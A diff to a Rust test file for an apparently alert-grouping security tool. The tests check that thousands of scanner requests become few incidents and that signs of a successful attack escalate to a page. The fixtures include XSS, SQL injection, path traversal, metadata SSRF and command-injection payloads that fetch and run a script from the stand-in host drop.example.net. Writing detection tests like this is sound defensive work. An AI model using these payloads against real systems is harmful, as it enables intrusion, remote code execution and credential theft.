@@ -1,5 +1,6 @@
 //! Not one incident per log line.
 
+use foghorn_domain::clock::SignedDuration;
 use foghorn_testkit::{App, event};
 use serde_json::{Value, json};
 
@@ -74,6 +75,90 @@ async fn a_scanner_is_one_campaign() {
     assert_eq!(app.tellings().await.len(), 1);
     let labels = incident["labels"].as_array().unwrap();
     assert!(["xss", "sqli"].iter().all(|kind| labels.contains(&json!(kind))), "{labels:?}");
+}
+
+/// What a scanner tries, one after the other.
+const TRIED: [&str; 10] = [
+    "<script>alert(1)</script>",
+    "\"><img src=x onerror=alert(document.cookie)>",
+    "1' OR '1'='1' -- ",
+    "7 UNION SELECT username, password FROM users -- ",
+    "../../../../../../etc/passwd",
+    "..%2f..%2f..%2f..%2fwindows%2fwin.ini",
+    "; cat /etc/passwd",
+    "$(curl http://drop.example.net/x.sh | sh)",
+    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+    "{{7*7}}${7*7}<%= 7*7 %>",
+];
+
+fn tried(n: usize) -> Value {
+    let method = ["GET", "POST", "HEAD"][n % 3];
+    let text = format!("{method} /shop/{}/view?item={} HTTP/1.1", n * 7 % 30, TRIED[n * 3 % TRIED.len()]);
+    event("shop", "http_request", &text)
+}
+
+#[tokio::test]
+async fn five_thousand_requests_of_a_scanner_are_two_incidents_at_most_and_page_nobody() {
+    let client = |n: usize| {
+        [json!({ "client_ip": "203.0.113.9" }), json!({}), json!({ "client_ip": format!("198.51.100.{}", n % 50) })]
+    };
+    for of_whom in 0..3 {
+        let mut app = App::new();
+        for chunk in (0..5_000).collect::<Vec<usize>>().chunks(1_000) {
+            let requests = chunk.iter().map(|n| {
+                let mut request = tried(*n);
+                request["metadata"] = client(*n)[of_whom].clone();
+                request
+            });
+            app.send_all(requests.collect()).await;
+            app.settle().await;
+            app.advance(SignedDuration::from_secs(40));
+        }
+        let incidents = app.incidents().await;
+        assert!((1..=2).contains(&incidents.len()), "{of_whom}: {incidents:#?}");
+        assert!(incidents.iter().all(|incident| incident["urgency"] == "notify"), "{of_whom}: {incidents:#?}");
+        assert!(app.tellings().await.len() <= 2, "{of_whom}");
+        let found: u64 = incidents.iter().map(|incident| incident["event_count"].as_u64().unwrap()).sum();
+        assert!(found > 4_000, "{of_whom}: only {found} requests were seen for what they are");
+    }
+}
+
+#[tokio::test]
+async fn a_campaign_is_told_again_as_a_page_once_something_says_that_it_got_through() {
+    let mut app = App::new();
+    app.send_all((0..20).map(tried).collect()).await;
+    app.settle().await;
+    let told = |incident: &Value| (incident["severity"].clone(), incident["urgency"].clone());
+    let (severity, urgency) = told(App::only(&app.incidents().await));
+    assert!(severity != "critical" && urgency == "notify");
+    let mut leaked = event("shop", "http_request", "GET /shop/1/view?file=../../../../etc/passwd HTTP/1.1");
+    leaked["metadata"] = json!({ "status": 200, "response_body": "root:x:0:0:root:/root:/bin/bash" });
+    app.send(leaked).await;
+    app.settle().await;
+    let incidents = app.incidents().await;
+    let incident = App::only(&incidents);
+    assert_eq!(told(incident), (json!("critical"), json!("page")));
+    assert!(incident["labels"].as_array().unwrap().contains(&json!("attack_succeeded")));
+    let reasons: Vec<String> = app.tellings().await.into_iter().map(|(_, reason, _)| reason).collect();
+    assert_eq!(reasons, ["opened", "severity_raised"]);
+    let seen = app.incident(1).await;
+    let rules: Vec<&Value> = seen["evidence"].as_array().unwrap().iter().map(|evidence| &evidence["rule"]).collect();
+    assert!(rules.contains(&&json!("attack.succeeded.passwd")), "{rules:?}");
+}
+
+#[tokio::test]
+async fn a_call_to_a_host_that_only_the_attack_has_named_says_that_it_got_through() {
+    let mut app = App::new();
+    app.send(event("shop", "http_request", "GET /ping?host=;wget http://drop.example.net/x.sh -O- | sh HTTP/1.1"))
+        .await;
+    app.send(event("shop", "log", "INFO connecting to payments.example.org:443")).await;
+    app.settle().await;
+    assert_eq!(App::only(&app.incidents().await)["urgency"], "notify");
+    app.send(event("shop", "log", "INFO outbound connection to drop.example.net:80 opened by pid 4711")).await;
+    app.settle().await;
+    let incidents = app.incidents().await;
+    assert_eq!(App::only(&incidents)["urgency"], "page");
+    assert_eq!(App::only(&incidents)["event_count"], 2);
 }
 
 #[tokio::test]
